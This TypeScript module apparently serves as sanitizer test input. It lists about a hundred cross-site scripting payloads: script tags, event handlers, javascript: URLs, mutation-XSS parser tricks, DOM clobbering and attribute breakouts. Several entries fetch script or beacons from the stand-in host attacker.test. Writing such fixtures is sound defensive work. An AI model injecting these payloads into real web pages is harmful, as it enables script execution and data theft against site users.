import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

import { corpusPath, missingCorpus } from './corpora.ts';

/** Script injections of every known shape: at least one for each way in which HTML can run a script. */
export const payloads: readonly string[] = [
  // Elements that run a script, in every spelling.
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src="https://attacker.test/x.js"></script>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script/x>',
  '<script>alert(1)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '</title><script>alert(1)</script>',
  '</textarea></style></script><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<script>\u2028alert(1)\u2029</script>',
  // Event handlers that need no reader.
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x OnErRoR="alert(1)">',
  '<img src="x" onerror\n=\n"alert(1)">',
  '<img src=x:x onerror=window["al"+"ert"](1)>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
  '<img """><img src=x onerror=alert(1)>">',
  '<img src=`x` onerror=alert`1`>',
  '<img srcset="x 1x" onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text x=20 y=20>press</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1) src=x></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<a id=x tabindex=1 autofocus onfocus=alert(1)>x</a>',
  '<p contenteditable autofocus onfocus=alert(1)>x</p>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<style>@keyframes x{}</style><p style="animation:x" onanimationstart=alert(1)>x</p>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/html" data="data:text/html,<script>parent.alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<iframe srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>',
  '<iframe onload=alert(1)></iframe>',
  '<frameset onload=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<x onclick=alert(1) onmouseover=alert(1)>point here</x>',
  '<p onmouseover="alert(1)" onfocus="alert(1)" onpointerover="alert(1)">point here</p>',
  // Addresses.
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001 javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert&lpar;1&rpar;">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//attacker.test/x">x</a>',
  '<a href="/\\attacker.test/x">x</a>',
  '<a href="https:/attacker.test/x" ping="https://attacker.test/ping">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline#https://attacker.test" xlink:href="javascript:alert(1)">x</maction></math>',
  // Requests to another site.
  '<img src="https://attacker.test/pixel.gif">',
  '<img src="//attacker.test/pixel.gif">',
  '<img srcset="https://attacker.test/pixel.gif 1x">',
  '<link rel=stylesheet href="https://attacker.test/x.css">',
  '<style>@import "https://attacker.test/x.css";</style>',
  '<p style="background:url(https://attacker.test/x.png)">x</p>',
  '<p style="position:fixed;inset:0;background:red">covers the page</p>',
  '<base href="https://attacker.test/">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.test/">',
  '<video poster="https://attacker.test/x.png"></video>',
  '<table background="https://attacker.test/x.png"><tr><td>x</td></tr></table>',
  '<iframe src="https://attacker.test/"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com.attacker.test/embed/x"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com@attacker.test/embed/x"></iframe>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  // Markup that a parser reads differently the second time.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></table></mi></math>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></svg>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  '<svg><desc><noscript><![CDATA[</desc><img src=x onerror=alert(1)>]]></noscript></svg>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<table><a title="</table><img src=x onerror=alert(1)>">x',
  // Names that the page's own script would find in place of its own.
  '<a id=getElementById></a><img name=cookie><form name=querySelector></form>',
  '<a id=location href="https://attacker.test/">x</a>',
  '<a id=__proto__ name=constructor>x</a>',
  // Broken out of an attribute, text that is no markup, and all of it at once.
  '"><script>alert(1)</script>',
  '\'"--><svg onload=alert(1)>',
  '" autofocus onfocus=alert(1) x="',
  "' style='position:fixed' onmouseover='alert(1)",
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '{{constructor.constructor("alert(1)")()}}${alert(1)}#{alert(1)}<%= alert(1) %>',
  "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
];

/** Why the collected payloads cannot be read here; null when they can. */
export const payloadsMissing = missingCorpus('xss');

/** Script injections from public collections, each once: a line is a payload. */
export function readPayloads(): string[] {
  const folder = corpusPath('xss');
  const lines = readdirSync(folder)
    .toSorted()
    .flatMap((name) => readFileSync(join(folder, name), 'utf8').split('\n'))
    .map((line) => line.replace(/\r$/, ''));
  return [...new Set(lines)].filter((line) => line.trim() !== '');
}
